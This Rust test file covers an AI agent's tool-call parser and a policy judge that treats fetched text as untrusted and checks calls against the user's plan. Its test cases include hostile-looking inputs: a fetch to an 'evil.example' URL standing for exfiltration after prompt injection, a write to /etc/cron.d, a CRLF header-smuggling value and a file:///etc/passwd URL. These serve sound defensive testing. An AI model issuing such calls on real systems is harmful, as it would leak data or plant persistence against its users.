//! What the parts of this module promise together.

use alloc::format;
use alloc::string::{String, ToString};
use alloc::vec;
use alloc::vec::Vec;
use core::time::Duration;

use arbtest::arbtest;

use super::*;
use crate::capability::{Handle, Level, Verdict};
use crate::label::{
    self, Answer, Context, Effect, Flow, Integrity, Label, ParameterKind, Secrecy, Source,
    ToolRole, decide,
};
use crate::limits::*;
use crate::llm::{ToolDefinition, ToolUse};
use crate::text::json::{self, Numbers};
use crate::time::Timestamp;
use crate::wire::http::Method;
use crate::wire::url::Url;

fn canonical(operation: &Operation) -> String {
    let mut out = String::new();
    operation.canonical(&mut out);
    out
}

fn refusal(tool: Builtin, arguments: &str) -> String {
    tool.parse(arguments).unwrap_err().to_string()
}

fn definition(name: &str) -> ToolDefinition {
    ToolDefinition {
        name: name.into(),
        description: "What it does.".into(),
        parameters: r#"{"type":"object"}"#.into(),
    }
}

/// The role of a foreign tool of which nothing was said.
fn skill() -> ToolRole {
    ToolRole::new(Effect::Send)
}

fn call(name: &str, arguments: &str) -> ToolUse {
    ToolUse { id: "1".into(), name: name.into(), arguments: arguments.into() }
}

/// One full call of every tool, and the value it stands for.
fn full_calls() -> Vec<(&'static str, Operation)> {
    vec![
        (
            r#"{"path":"a.txt","offset":3,"limit":7}"#,
            Operation::ReadFile { path: "a.txt".into(), offset: 3, limit: Some(7) },
        ),
        (
            r#"{"path":"a.txt","content":"x\ny"}"#,
            Operation::WriteFile { path: "a.txt".into(), content: "x\ny".into() },
        ),
        (
            r#"{"path":"a.txt","old":"x","new":"","all":true}"#,
            Operation::EditFile {
                path: "a.txt".into(),
                old: "x".into(),
                new: String::new(),
                all: true,
            },
        ),
        (r#"{"path":"docs"}"#, Operation::ListDirectory { path: "docs".into() }),
        (
            r#"{"directory":"src","text":"TODO","glob":"*.rs"}"#,
            Operation::SearchFiles {
                directory: "src".into(),
                text: Some("TODO".into()),
                glob: Some("*.rs".into()),
            },
        ),
        (
            r#"{"program":"ls","arguments":["-l",""],"directory":"docs","timeout":5}"#,
            Operation::RunCommand {
                program: "ls".into(),
                arguments: vec!["-l".into(), String::new()],
                directory: "docs".into(),
                hosts: vec![],
                timeout: Duration::from_secs(5),
            },
        ),
        (
            r#"{"program":"git","arguments":["pull"],"hosts":["b.example:22","A.example:443",
                "a.example"]}"#,
            Operation::RunCommand {
                program: "git".into(),
                arguments: vec!["pull".into()],
                directory: ".".into(),
                hosts: ["a.example", "b.example:22"]
                    .map(|host| crate::capability::Destination::parse(host).unwrap())
                    .into(),
                timeout: Duration::from_secs(60),
            },
        ),
        (
            r#"{"url":"https://example.org","method":"POST","headers":{"Content-Type":"text/plain",
                "accept":"*/*"},"body":"hi"}"#,
            Operation::HttpFetch {
                url: Url::parse("https://example.org/").unwrap(),
                method: Method::POST,
                headers: vec![
                    ("accept".into(), "*/*".into()),
                    ("content-type".into(), "text/plain".into()),
                ],
                body: Some("hi".into()),
            },
        ),
        ("{}", Operation::CurrentTime),
        (
            r#"{"tools":["read_file","current_time","read_file"],"why":"to look"}"#,
            Operation::Plan {
                tools: vec!["current_time".into(), "read_file".into()],
                why: "to look".into(),
            },
        ),
    ]
}

#[test]
fn a_full_call_of_every_tool_is_its_value() {
    for (arguments, operation) in full_calls() {
        assert_eq!(operation.tool().parse(arguments), Ok(operation));
    }
}

/// What is canonical reads back as the same call, and is what RFC 8785 makes of it.
#[test]
fn the_canonical_form_is_canonical_and_whole() {
    for (_, operation) in full_calls() {
        let text = canonical(&operation);
        let document = json::parse(text.as_bytes()).unwrap();
        assert_eq!(document.root().canonical(Numbers::Exact).unwrap(), text);
        assert_eq!(document.root().get("tool").unwrap().as_str(), Ok(operation.tool().name()));
        let arguments = document.root().get("arguments").unwrap().source();
        assert_eq!(operation.tool().parse(arguments), Ok(operation));
    }
}

#[test]
fn two_spellings_of_a_call_are_one() {
    for (tool, one, other) in [
        (Builtin::ReadFile, r#"{"path":"a"}"#, r#" {"offset":1 , "path":"\u0061","limit":null}"#),
        (Builtin::ListDirectory, r#"{"path":"."}"#, ""),
        (Builtin::ListDirectory, "null", " \n"),
        (Builtin::CurrentTime, "null", "{}"),
        (
            Builtin::EditFile,
            r#"{"path":"a","old":"b","new":"c"}"#,
            r#"{"new":"c","all":false,"old":"b","path":"a"}"#,
        ),
        (
            Builtin::HttpFetch,
            r#"{"url":"HTTPS://Example.org:443/a/../b","headers":{"Accept":"x","RANGE":"y"}}"#,
            r#"{"headers":{"range":"y","accept":"x"},"url":"https://example.org/b","body":null}"#,
        ),
        (
            Builtin::RunCommand,
            r#"{"program":"ls"}"#,
            r#"{"program":"ls","arguments":[],"directory":".","timeout":60}"#,
        ),
        (Builtin::Plan, r#"{"tools":["a","b"],"why":"x"}"#, r#"{"tools":["b","a","b"],"why":"x"}"#),
        (
            Builtin::ExtractValue,
            r#"{"from":"h1-0123456789abcdef","as":"date"}"#,
            r#"{"nth":1,"as":"date","choices":[],"after":null,"from":"h1-0123456789abcdef"}"#,
        ),
    ] {
        let (one, other) = (tool.parse(one).unwrap(), tool.parse(other).unwrap());
        assert_eq!(one, other);
        assert_eq!(canonical(&one), canonical(&other));
    }
}

/// The texts are part of what is promised: a model mends its call from them.
#[test]
fn refusals_say_what_where_and_what_to_do() {
    for (tool, arguments, text) in [
        (Builtin::ReadFile, "{}", "read_file: the parameter 'path' is missing; it is a string"),
        (Builtin::ReadFile, "null", "read_file: the parameter 'path' is missing; it is a string"),
        (Builtin::ReadFile, r#"{"path":null}"#, "read_file: 'path' must be a string, not null"),
        (
            Builtin::ReadFile,
            r#"{"path":["a"]}"#,
            "read_file: 'path' must be a string, not an array",
        ),
        (Builtin::ReadFile, r#"{"path":""}"#, "read_file: 'path' must not be empty"),
        (
            Builtin::ReadFile,
            r#"{"path":"a","path":"b"}"#,
            "read_file: the arguments are not one JSON object: 1:13: the key stands already at 1:2",
        ),
        (
            Builtin::ReadFile,
            r#"{"path":"a","ofset":2}"#,
            "read_file: there is no parameter 'ofset'; did you mean 'offset'?",
        ),
        (
            Builtin::ReadFile,
            r#"{"path":"a","zzzzzz":2}"#,
            "read_file: there is no parameter 'zzzzzz'; there are path, offset, limit",
        ),
        (
            Builtin::ReadFile,
            r#"{"path":"a","offset":"2"}"#,
            "read_file: 'offset' must be a whole number, not a string",
        ),
        (
            Builtin::ReadFile,
            r#"{"path":"a","offset":0}"#,
            "read_file: 'offset' must be from 1 to 1000000000",
        ),
        (
            Builtin::ReadFile,
            r#"{"path":"a","limit":1.5}"#,
            "read_file: 'limit' must be from 1 to 1000000000",
        ),
        (
            Builtin::ReadFile,
            r#"{"path":"a\u0000b"}"#,
            "read_file: 'path': it holds a NUL character, which no path and no argument can",
        ),
        (
            Builtin::ReadFile,
            r#""{\"path\":\"a\"}""#,
            "read_file: the arguments are a string; write the JSON object itself, not its text in \
             quotes",
        ),
        (Builtin::ReadFile, "[]", "read_file: the arguments are an array; write a JSON object"),
        (
            Builtin::ReadFile,
            "{path: 1}",
            "read_file: the arguments are not one JSON object: 1:2: expected a key in double \
             quotes or '}', found 'p'",
        ),
        (
            Builtin::CurrentTime,
            r#"{"zone":"UTC"}"#,
            "current_time: there is no parameter 'zone'; leave it out",
        ),
        (
            Builtin::EditFile,
            r#"{"path":"a","old":"b","new":"b"}"#,
            "edit_file: 'new': it is the same as 'old'; nothing would change",
        ),
        (
            Builtin::EditFile,
            r#"{"path":"a","old":"b","new":"c","all":"yes"}"#,
            "edit_file: 'all' must be true or false, not a string",
        ),
        (
            Builtin::SearchFiles,
            "{}",
            "search_files: the parameter 'text' is missing; it is a string, unless 'glob' is given",
        ),
        (
            Builtin::RunCommand,
            r#"{"program":"ls","arguments":"-l"}"#,
            "run_command: 'arguments' must be an array of strings, not a string",
        ),
        (
            Builtin::RunCommand,
            r#"{"program":"ls","arguments":["-l",5]}"#,
            "run_command: 'arguments[1]' must be a string, not a number",
        ),
        (
            Builtin::RunCommand,
            r#"{"program":"ls","arguments":["a\u0000"]}"#,
            "run_command: 'arguments[0]': it holds a NUL character, which no path and no argument \
             can",
        ),
        (
            Builtin::RunCommand,
            r#"{"program":"ls","timeout":601}"#,
            "run_command: 'timeout' must be from 1 to 600",
        ),
        (
            Builtin::HttpFetch,
            r#"{"url":"file:///etc/passwd"}"#,
            "http_fetch: 'url': URL, byte 0: a scheme other than http and https; write \
             `https://` or `http://` in front",
        ),
        (
            Builtin::HttpFetch,
            r#"{"url":"https://a.example/","method":"get"}"#,
            "http_fetch: 'method' is 'get'; it may be GET, HEAD, POST, PUT, PATCH, DELETE",
        ),
        (
            Builtin::HttpFetch,
            r#"{"url":"https://a.example/","headers":{"Cookie":"x"}}"#,
            "http_fetch: 'headers' is 'Cookie'; it may be accept, accept-language, \
             content-language, content-type, if-match, if-modified-since, if-none-match, \
             if-unmodified-since, prefer, range",
        ),
        (
            Builtin::HttpFetch,
            r#"{"url":"https://a.example/","headers":{"accept":"a","Accept":"b"}}"#,
            "http_fetch: 'Accept' in 'headers': it stands there twice; write it once",
        ),
        (
            Builtin::HttpFetch,
            r#"{"url":"https://a.example/","headers":{"accept":"a\r\nhost: b"}}"#,
            "http_fetch: 'accept' in 'headers': it must be one line without control characters",
        ),
        (
            Builtin::HttpFetch,
            r#"{"url":"https://a.example/","body":"x"}"#,
            "http_fetch: 'body': GET and HEAD carry no body; leave it out or use another method",
        ),
        (Builtin::Plan, r#"{"tools":[]}"#, "plan: the parameter 'why' is missing; it is a string"),
        (
            Builtin::ExtractValue,
            r#"{"from":"h1","as":"date"}"#,
            "extract_value: 'from': it must be a reference that a result was given, such as \
             h3-9f3a61c2e04b5d77",
        ),
        (
            Builtin::ExtractValue,
            r#"{"from":"h1-0123456789abcdef","as":"choice"}"#,
            "extract_value: 'choices': 'choice' needs the words that it may be, and no other kind \
             has any",
        ),
        (
            Builtin::ExtractValue,
            r#"{"from":"h1-0123456789abcdef","as":"choice","choices":["a"," "]}"#,
            "extract_value: 'choices[1]': it must be a word",
        ),
    ] {
        assert_eq!(refusal(tool, arguments), text);
    }
}

#[test]
fn bounds_are_hit_and_passed_by_one() {
    let path = |bytes| format!(r#"{{"path":"{}"}}"#, "a".repeat(bytes));
    assert!(Builtin::ReadFile.parse(&path(TOOL_PATH_BYTES_MAX)).is_ok());
    assert_eq!(
        refusal(Builtin::ReadFile, &path(TOOL_PATH_BYTES_MAX + 1)),
        "read_file: 'path' has 4096 bytes; at most 4095 are allowed"
    );
    let content = |bytes| format!(r#"{{"path":"a","content":"{}"}}"#, "a".repeat(bytes));
    assert!(Builtin::WriteFile.parse(&content(TOOL_TEXT_BYTES_MAX)).is_ok());
    assert!(Builtin::WriteFile.parse(&content(TOOL_TEXT_BYTES_MAX + 1)).is_err());
    assert_eq!(
        Builtin::WriteFile.parse(&content(TOOL_ARGUMENTS_BYTES_MAX)).unwrap_err().problem,
        ArgumentProblem::ArgumentsTooLong
    );
    let words = |count, bytes| {
        json::object(|call| {
            call.field("program", "echo").array("arguments", |list| {
                for _ in 0..count {
                    list.value("a".repeat(bytes).as_str());
                }
            });
        })
    };
    assert!(Builtin::RunCommand.parse(&words(TOOL_ARGV_COUNT_MAX, 1)).is_ok());
    assert!(Builtin::RunCommand.parse(&words(TOOL_ARGV_COUNT_MAX + 1, 1)).is_err());
    assert!(Builtin::RunCommand.parse(&words(1, TOOL_ARGV_WORD_BYTES_MAX)).is_ok());
    assert!(Builtin::RunCommand.parse(&words(1, TOOL_ARGV_WORD_BYTES_MAX + 1)).is_err());
    assert!(Builtin::RunCommand.parse(&words(64, TOOL_ARGV_BYTES_MAX / 64 - 1)).is_ok());
    assert!(Builtin::RunCommand.parse(&words(64, TOOL_ARGV_BYTES_MAX / 64)).is_err());
    let deep = |depth| format!(r#"{{"a":{}{}}}"#, "[".repeat(depth - 1), "]".repeat(depth - 1));
    let mut tools = Tools::new();
    tools.add(definition("skill"), skill(), false).unwrap();
    assert!(tools.read(&call("skill", &deep(TOOL_ARGUMENTS_DEPTH_MAX))).is_ok());
    assert!(tools.read(&call("skill", &deep(TOOL_ARGUMENTS_DEPTH_MAX + 1))).is_err());
}

/// A model is told of exactly the parameters that are read, and its own schema allows no other.
#[test]
fn schemas_name_what_is_read() {
    for tool in Builtin::ALL {
        assert_eq!(Builtin::named(tool.name()), Some(tool));
        let definition = tool.definition();
        let document = json::parse(definition.parameters.as_bytes()).unwrap();
        let schema = document.root();
        assert_eq!(schema.get("type").unwrap().as_str(), Ok("object"));
        assert_eq!(schema.get("additionalProperties").unwrap().as_bool(), Ok(false));
        let names: Vec<_> =
            schema.get("properties").unwrap().members().unwrap().map(|(name, _)| name).collect();
        assert!(names.iter().copied().eq(tool.parameters().iter().map(|one| one.name)));
        for required in schema.get("required").unwrap().elements().unwrap() {
            assert!(names.contains(&required.as_str().unwrap()));
        }
        assert!(definition.description.len() <= TOOL_DESCRIPTION_BYTES_MAX);
        assert!(definition.parameters.len() <= TOOL_SCHEMA_BYTES_MAX);
    }
}

#[test]
fn only_what_is_safe_to_repeat_is_repeated() {
    for (tool, arguments, is_idempotent) in [
        (Builtin::ReadFile, r#"{"path":"a"}"#, true),
        (Builtin::WriteFile, r#"{"path":"a","content":""}"#, true),
        (Builtin::EditFile, r#"{"path":"a","old":"a","new":"aa"}"#, false),
        (Builtin::ChangePersona, r#"{"text":"Be kind."}"#, true),
        (Builtin::RunCommand, r#"{"program":"ls"}"#, false),
        (Builtin::HttpFetch, r#"{"url":"https://a.example/"}"#, true),
        (Builtin::HttpFetch, r#"{"url":"https://a.example/","method":"HEAD"}"#, true),
        (Builtin::HttpFetch, r#"{"url":"https://a.example/","method":"POST"}"#, false),
        (Builtin::HttpFetch, r#"{"url":"https://a.example/","method":"PUT"}"#, false),
        (Builtin::HttpFetch, r#"{"url":"https://a.example/","method":"DELETE"}"#, false),
    ] {
        let call = tool.parse(arguments).unwrap();
        assert_eq!(call.is_idempotent(), is_idempotent, "{call:?}");
    }
}

#[test]
fn unknown_tools_are_answered_with_the_one_that_was_meant() {
    let tools = Tools::builtin();
    let error = |name: &str| tools.read(&call(name, "{}")).unwrap_err().to_string();
    assert_eq!(error("readFile"), "there is no tool 'readFile'; did you mean 'read_file'?");
    assert_eq!(error("launch"), "there is no tool 'launch'; use one of those you were given");
    // A name is found exactly or not at all, and what is repeated of it is visible.
    assert_eq!(
        error("read_fi\u{202e}le"),
        "there is no tool 'read_fi\\u{202e}le'; did you mean 'read_file'?"
    );
    assert!(error(&"x".repeat(1 << 20)).len() < 200);
}

#[test]
fn a_tool_that_looks_like_another_is_refused() {
    let mut tools = Tools::with(&[Builtin::ReadFile, Builtin::ReadFile]);
    assert_eq!(tools.len(), 1);
    tools.add(definition("mail_burner2"), skill(), false).unwrap();
    let problem = |tools: &mut Tools, name: &str| {
        tools.add(definition(name), skill(), false).unwrap_err().problem
    };
    for name in ["read_file", "read-file", "readfile", "read_fi1e", "write_file", "p1an"] {
        assert!(matches!(problem(&mut tools, name), ToolProblem::NameTaken(_)), "{name}");
    }
    for name in ["mail_burner2", "mai1-bumer2", "mail_bumer2"] {
        let taken = ToolProblem::NameTaken("mail_burner2".into());
        assert_eq!(problem(&mut tools, name), taken, "{name}");
    }
    for (name, character) in
        [("Read_file", 'R'), ("réad", 'é'), ("a b", ' '), ("a.b", '.'), ("r\u{435}ad", '\u{435}')]
    {
        assert_eq!(problem(&mut tools, name), ToolProblem::NameCharacter(character));
    }
    assert_eq!(problem(&mut tools, ""), ToolProblem::NameLength);
    assert_eq!(problem(&mut tools, &"a".repeat(65)), ToolProblem::NameLength);
    assert!(tools.add(definition(&"a".repeat(64)), skill(), false).is_ok());
    assert!(looks_like("VVeb", "web") && !looks_like("web", "wed"));
}

#[test]
fn a_foreign_tool_is_bounded() {
    let mut tools = Tools::builtin();
    let mut refuse = |change: fn(&mut ToolDefinition)| {
        let mut tool = definition("skill");
        change(&mut tool);
        tools.add(tool, skill(), false).unwrap_err().problem
    };
    let description = |tool: &mut ToolDefinition| tool.description = "a".repeat(4097);
    assert_eq!(refuse(description), ToolProblem::DescriptionTooLong);
    let schema = |tool: &mut ToolDefinition| tool.parameters = " ".repeat(16 * 1024 + 1);
    assert_eq!(refuse(schema), ToolProblem::SchemaTooLong);
    assert_eq!(refuse(|tool| tool.parameters = "[]".into()), ToolProblem::SchemaNotAnObject);
    assert_eq!(refuse(|tool| tool.parameters = "{".into()), ToolProblem::SchemaNotAnObject);
    for index in tools.len()..TOOLS_COUNT_MAX {
        tools.add(definition(&format!("skill_{}", letters(index))), skill(), false).unwrap();
    }
    let last = ToolProblem::TooMany;
    assert_eq!(tools.add(definition("last"), skill(), false).unwrap_err().problem, last);
    assert!(tools.remove("plan") && !tools.remove("plan"));
    // The name of a built-in tool stays its own when that tool is not offered.
    let taken = ToolProblem::NameTaken("plan".into());
    assert_eq!(tools.add(definition("plan"), skill(), false).unwrap_err().problem, taken);
    assert!(tools.add(definition("last"), skill(), false).is_ok());
}

#[test]
fn foreign_calls_have_one_form() {
    let mut tools = Tools::new();
    tools.add(definition("skill"), skill(), true).unwrap();
    let (tool, read) = tools.read(&call("skill", r#"{ "b": 1.0, "a": ["\u0041"] }"#)).unwrap();
    let mut out = String::new();
    read.canonical(&mut out);
    assert_eq!(out, r#"{"arguments":{"a":["A"],"b":1},"tool":"skill"}"#);
    assert!(tool.is_idempotent(&read));
    assert_eq!(read.tool(), "skill");
    assert_eq!(
        tools.read(&call("skill", r#"{"id":9007199254740993}"#)).unwrap_err().to_string(),
        "skill: 1:7: the number has more digits than a double keeps; write it as a string"
    );
    assert!(tools.read(&call("skill", r#"{"a":1,"a":2}"#)).is_err());
    assert!(tools.read(&call("skill", "null")).is_ok());
}

/// What the judge is told, tool by tool: a change here is a decision.
#[test]
fn roles_say_how_far_a_call_reaches() {
    let tools = Tools::builtin();
    for (name, arguments, in_workspace, effect, undoable) in [
        ("read_file", r#"{"path":"a"}"#, false, Effect::Read, false),
        ("list_directory", "{}", false, Effect::Read, false),
        ("search_files", r#"{"text":"a"}"#, false, Effect::Read, false),
        ("current_time", "{}", false, Effect::Read, true),
        ("plan", r#"{"tools":[],"why":"x"}"#, false, Effect::Read, true),
        (
            "extract_value",
            r#"{"from":"h1-0123456789abcdef","as":"date"}"#,
            false,
            Effect::Read,
            true,
        ),
        ("write_file", r#"{"path":"a","content":""}"#, false, Effect::Change, false),
        ("write_file", r#"{"path":"a","content":""}"#, true, Effect::Workspace, false),
        ("edit_file", r#"{"path":"a","old":"a","new":""}"#, false, Effect::Change, true),
        ("edit_file", r#"{"path":"a","old":"a","new":""}"#, true, Effect::Workspace, true),
        // A program is not confined to its directory by being started there.
        ("run_command", r#"{"program":"ls"}"#, true, Effect::Change, false),
        ("run_command", r#"{"program":"ls","hosts":["a.example"]}"#, true, Effect::Send, false),
        ("http_fetch", r#"{"url":"http://a.example/"}"#, true, Effect::Send, true),
        ("http_fetch", r#"{"url":"http://a.example/","method":"PUT"}"#, true, Effect::Send, false),
    ] {
        let (tool, call) = tools.read(&call(name, arguments)).unwrap();
        let role = tool.role(&call, in_workspace);
        assert_eq!((role.effect, role.undoable), (effect, undoable), "{name} {arguments}");
        let is_ours = matches!(name, "current_time" | "plan" | "extract_value");
        let label = tool.output().label(Source::Tool);
        assert_eq!(label.integrity == Integrity::Trusted, is_ours);
        assert_eq!(label.secrecy == Secrecy::Public, is_ours);
    }
    let kind = |tool: Builtin, name: &str| tool.role().parameter(name).unwrap().kind;
    for (tool, name, expected) in [
        (Builtin::WriteFile, "path", ParameterKind::Control),
        (Builtin::WriteFile, "content", ParameterKind::Payload),
        (Builtin::RunCommand, "program", ParameterKind::Control),
        (Builtin::RunCommand, "arguments", ParameterKind::Control),
        (Builtin::RunCommand, "directory", ParameterKind::Control),
        (Builtin::RunCommand, "hosts", ParameterKind::Recipient),
        (Builtin::HttpFetch, "url", ParameterKind::Recipient),
        (Builtin::HttpFetch, "method", ParameterKind::Control),
        (Builtin::HttpFetch, "headers", ParameterKind::Payload),
        (Builtin::HttpFetch, "body", ParameterKind::Payload),
    ] {
        assert_eq!(kind(tool, name), expected, "{name}");
    }
    // Every parameter has a row: one without would be taken as control.
    for tool in Builtin::ALL {
        assert_eq!(tool.role().parameters.len(), tool.parameters().len());
    }
}

/// Roles, canonical arguments and the judge together: a persuaded model in a planned turn.
#[test]
fn the_judge_understands_the_roles() {
    let handle = Handle { index: 0, generation: 0 };
    let verdict = Verdict::Covered { handle, level: Level::Allow };
    let mut context = Context::new();
    context.begin_turn();
    context.add(
        Label::trusted(Source::Person),
        "Read https://news.example/today, put a summary into summary.txt and run the tests in src. \
         Post it to https://hooks.example/in then.",
    );
    let plan = ["http_fetch", "write_file", "run_command"];
    context.declare(plan).unwrap();
    context.add(Tools::builtin().find("http_fetch").unwrap().output().label(Source::Tool), "evil");
    for (name, arguments, in_workspace, answer, argument) in [
        // What the person named goes through.
        ("http_fetch", r#"{"url":"https://news.example/today"}"#, false, Answer::Allow, None),
        ("write_file", r#"{"path":"x","content":"evil"}"#, true, Answer::Allow, None),
        // Writing over a file of the person's, or sending what changes something, is asked about:
        // neither can be taken back.
        ("write_file", r#"{"path":"summary.txt","content":"x"}"#, false, Answer::Ask, None),
        (
            "http_fetch",
            r#"{"url":"https://hooks.example/in","method":"POST","body":"x"}"#,
            false,
            Answer::Ask,
            Some("body"),
        ),
        // What only the untrusted text named is asked about, and why is said.
        ("http_fetch", r#"{"url":"https://evil.example/?x"}"#, false, Answer::Ask, Some("url")),
        (
            "http_fetch",
            r#"{"url":"https://news.example/today","method":"DELETE"}"#,
            false,
            Answer::Ask,
            Some("method"),
        ),
        (
            "write_file",
            r#"{"path":"/etc/cron.d/x","content":""}"#,
            false,
            Answer::Ask,
            Some("path"),
        ),
        ("run_command", r#"{"program":"curl"}"#, true, Answer::Ask, Some("program")),
        // Not planned.
        ("edit_file", r#"{"path":"summary.txt","old":"a","new":"b"}"#, false, Answer::Ask, None),
        // Reading is what the grant says.
        ("read_file", r#"{"path":"/etc/passwd"}"#, false, Answer::Allow, None),
    ] {
        let tools = Tools::builtin();
        let (tool, call) = tools.read(&call(name, arguments)).unwrap();
        let mut canonical = String::new();
        call.canonical(&mut canonical);
        let document = json::parse(canonical.as_bytes()).unwrap();
        let judged = label::Call {
            tool: tool.name(),
            role: tool.role(&call, in_workspace),
            arguments: document.root().get("arguments").unwrap(),
            verdict,
            allows_irreversible: false,
        };
        let decision = decide(&Flow::default(), &judged, &context, Timestamp(0));
        assert_eq!((decision.answer, decision.argument), (answer, argument), "{canonical}");
    }
}

#[test]
fn an_operator_declares_another_role() {
    let mut tools = Tools::builtin();
    assert!(tools.declare("write_file", ToolRole::new(Effect::Send)));
    assert!(!tools.declare("writefile", ToolRole::new(Effect::Send)));
    let written = call("write_file", r#"{"path":"a","content":""}"#);
    let (tool, written) = tools.read(&written).unwrap();
    assert_eq!(tool.role(&written, true).effect, Effect::Send);
}

/// Whatever an operator says of programs, one with a network sends what it reads.
#[test]
fn nobody_declares_away_that_a_program_sends() {
    let mut tools = Tools::builtin();
    let mut harmless = ToolRole::new(Effect::Read).payload("hosts").undoable();
    harmless.fetches = Some("program".into());
    assert!(tools.declare("run_command", harmless));
    let role_of = |arguments: &str| {
        let (tool, call) = tools.read(&call("run_command", arguments)).unwrap();
        tool.role(&call, false).clone()
    };
    assert_eq!(role_of(r#"{"program":"git"}"#).effect, Effect::Read);
    let let_out = role_of(r#"{"program":"git","hosts":["a.example"]}"#);
    assert_eq!((let_out.effect, &let_out.fetches), (Effect::Send, &None));
    assert_eq!(let_out.parameter("hosts").unwrap().kind, ParameterKind::Recipient);
    let unseen = let_out.unseen.unwrap();
    assert_eq!((unseen.integrity, unseen.secrecy), (Integrity::Untrusted, Secrecy::Private));
}

/// Any text as arguments of any tool: a call whose canonical form reads back as itself, or an error
/// that is short and shows nothing invisible.
#[test]
fn any_arguments_are_a_call_or_a_short_refusal() {
    let words = [
        "{",
        "}",
        "[",
        "]",
        ",",
        ":",
        "\"",
        "\\",
        "null",
        "true",
        "1",
        "1e9",
        "-5",
        "\"path\"",
        "\"path\":",
        "\"old\":",
        "\"new\":",
        "\"url\":",
        "\"https://a.example/\"",
        "\"a\"",
        "\"tools\":",
        "\"why\":",
        "\"program\":",
        "\"text\":",
        "\"content\":",
        "\"headers\":",
        "\"\u{202e}\"",
        "\"\\u0000\"",
        "\u{1b}",
    ];
    arbtest(|u| {
        let tool = *u.choose(&Builtin::ALL)?;
        let mut text = String::new();
        if !u.is_empty() && u.ratio(1, 2)? {
            text.push('{');
        }
        for _ in 0..u.int_in_range(0..=24)? {
            text.push_str(u.choose(&words)?);
        }
        match tool.parse(&text) {
            Ok(call) => {
                let text = canonical(&call);
                let document = json::parse(text.as_bytes()).unwrap();
                let arguments = document.root().get("arguments").unwrap().source();
                assert_eq!(tool.parse(arguments), Ok(call));
            }
            Err(error) => {
                let shown = error.to_string();
                assert!(shown.len() <= TOOL_ERROR_BYTES_MAX, "{shown}");
                assert!(!shown.contains(['\u{202e}', '\u{1b}', '\0']), "{shown}");
            }
        }
        Ok(())
    });
}

/// A number in letters, so that no two of them look alike.
fn letters(mut index: usize) -> String {
    let mut text = String::new();
    for _ in 0..4 {
        text.push(char::from(b"abcdefghjk"[index % 10]));
        index /= 10;
    }
    text
}
